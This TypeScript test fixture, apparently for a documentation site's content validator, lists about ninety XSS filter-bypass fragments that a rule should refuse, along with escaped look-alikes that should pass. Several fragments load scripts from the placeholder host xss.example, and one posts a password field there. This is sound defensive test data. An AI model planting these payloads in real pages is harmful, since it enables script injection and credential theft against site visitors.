/** A page that somebody could send, and what has to become of it. */
export interface HostilePage {
  name: string;
  /** The whole file; most are a sound page with one hostile part. */
  file: string | Uint8Array;
  /** The beginning of a rule's code, such as HUB8; null of what is built, and does nothing. */
  refused: string | null;
  /** Where it lies, if not beside the guides. */
  path?: string;
}

const fields = {
  title: 'A hostile page',
  summary: 'A page that somebody sent, with something in it that no page of the hub may have.',
  reviewed: '2026-11-01',
  audience: 'Nobody',
};

/** A sound page around a body and further fields. */
export const pageOf = (body: string, more: Readonly<Record<string, string>> = {}): string =>
  `---\n${Object.entries({ ...fields, ...more })
    .map(([name, value]) => `${name}: ${value}`)
    .join('\n')}\n---\n\n## Part {#part}\n\n${body}\n`;

/** A sound page around lines of front matter. */
export const pageWith = (lines: string): string =>
  `---\n${Object.entries(fields)
    .map(([name, value]) => `${name}: ${value}`)
    .join('\n')}\n${lines}\n---\n\n## Part {#part}\n\nText.\n`;

const all = (refused: string | null, bodies: readonly string[]): HostilePage[] =>
  bodies.map((body) => ({ name: body.slice(0, 70), file: pageOf(body), refused }));

/** Raw HTML, as lists of ways past a filter have it: OWASP's, and those for Markdown. */
export const rawPages: readonly HostilePage[] = [
  ...all('HUB2', [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://xss.example/x.js></SCRIPT>',
    '<ScRiPt>alert(1)</sCrIpT>',
    '<script/xss src="https://xss.example/x.js"></script>',
    '<script/src=//xss.example></script>',
    '<script\n>alert(1)</script\n>',
    '<<script>alert(1);//\\<</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script>/* */alert(1)/* */</script>',
    '<script type="module">import "https://xss.example/x.js"</script>',
    '<script type="application/ld+json">{}</script>',
    '</script><script>alert(1)</script>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<img src=x onerror=alert(1)>',
    '<img src="x" onerror="alert(1)" />',
    '<IMG SRC="javascript:alert(1)">',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    '<img src=x:x onerror\x20=alert(1)>',
    '<img\tsrc=x\tonerror=alert(1)>',
    '<img src="https://xss.example/pixel.gif" width="1" height="1">',
    '<img srcset="https://xss.example/a.png 2x">',
    '<image src="https://xss.example/a.png">',
    '<picture><source srcset="https://xss.example/a.png"><img></picture>',
    '<input type="image" src="https://xss.example/a.png">',
    '<body onload=alert(1)>',
    '<body background="javascript:alert(1)">',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    '<svg><foreignObject><iframe src="https://xss.example"></iframe></foreignObject></svg>',
    '<svg><use href="https://xss.example/a.svg#b"/></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<iframe src="https://xss.example"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<iframe src=javascript:alert(1)>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<object data="https://xss.example/a.swf"></object>',
    '<embed src="https://xss.example/a.swf">',
    '<applet code="X.class"></applet>',
    '<video src=x onerror=alert(1)></video>',
    '<audio src=x onerror=alert(1)></audio>',
    '<details open ontoggle=alert(1)>x</details>',
    '<form action="https://xss.example"><input name=password><button>Go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input onfocus=alert(1) autofocus>',
    '<select onfocus=alert(1) autofocus></select>',
    '<textarea onfocus=alert(1) autofocus></textarea>',
    '<keygen onfocus=alert(1) autofocus>',
    '<isindex action="javascript:alert(1)">',
    '<marquee onstart=alert(1)>x</marquee>',
    '<bgsound src="javascript:alert(1)">',
    '<base href="https://xss.example/">',
    '<link rel="stylesheet" href="https://xss.example/a.css">',
    '<link rel=preload as=script href=https://xss.example/x.js>',
    '<meta http-equiv="refresh" content="0;url=https://xss.example">',
    '<style>@import "https://xss.example/a.css";</style>',
    '<style>body{background:url(https://xss.example)}</style>',
    '<div style="background-image:url(https://xss.example)">x</div>',
    '<div style="width: expression(alert(1));">x</div>',
    '<div style="position:fixed;inset:0">over the page</div>',
    '<p onmouseover="alert(1)">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="https://xss.example" target="_blank">x</a>',
    '<a onclick=alert(1)>x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<xss onafterscriptexecute=alert(1)><script>1</script>',
    '<custom-element onclick="alert(1)">x</custom-element>',
    '<template><script>alert(1)</script></template>',
    '<slot onslotchange=alert(1)></slot>',
    '<portal src="https://xss.example">',
    '<!-- x --!><script>alert(1)</script> -->',
    '<!--><script>alert(1)</script>-->',
    '<!---><script>alert(1)</script>-->',
    '<!-- x --><img src=x onerror=alert(1)><!-- y -->',
    '<!DOCTYPE html>',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?php system("id") ?>',
    '<?xml version="1.0"?>',
    'In a sentence <b onclick="alert(1)">bold</b> words.',
    '> <script>alert(1)</script>',
    '- <script>alert(1)</script>',
    '| a |\n| - |\n| <img src=x onerror=alert(1)> |',
    '**<img src=x onerror=alert(1)>**',
    '[<img src=x onerror=alert(1)>](https://example.org)',
    '### <script>alert(1)</script> {#sub}\n\nText.',
    ':::note\n\n<script>alert(1)</script>\n\n:::',
    'A note[^1].\n\n[^1]: <script>alert(1)</script>',
    '<Tabs>\n\n<TabItem value="a">x</TabItem>\n\n</Tabs>',
    '<Redirect to="https://xss.example" />',
  ]),
  // What only looks like it: text, code and comments.
  ...all(null, [
    '`<script>alert(1)</script>`',
    '```html\n<script>alert(1)</script>\n```',
    '```html title="<script>alert(1)</script>"\n<b>\n```',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;script&#62;alert(1)&#60;/script&#62;',
    '\\<script>alert(1)\\</script>',
    'a < script > b',
    // Browsers would take these for elements, and Markdown takes them for text.
    '<IMG SRC=`javascript:alert(1)`>',
    '<img/src=x/onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<!-- <script>alert(1)</script> -->\n\nText.',
    'Expressions: {alert(1)} {{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 1 %>',
    '### `<img src=x onerror=alert(1)>` {#code}\n\nText.',
    '### &lt;img src=x onerror=alert(1)&gt; {#entity}\n\nText.',
    ':::tip[`<img src=x onerror=alert(1)>`]\n\nText.\n\n:::',
    '| a |\n| - |\n| `<svg onload=alert(1)>` |',
  ]),
];
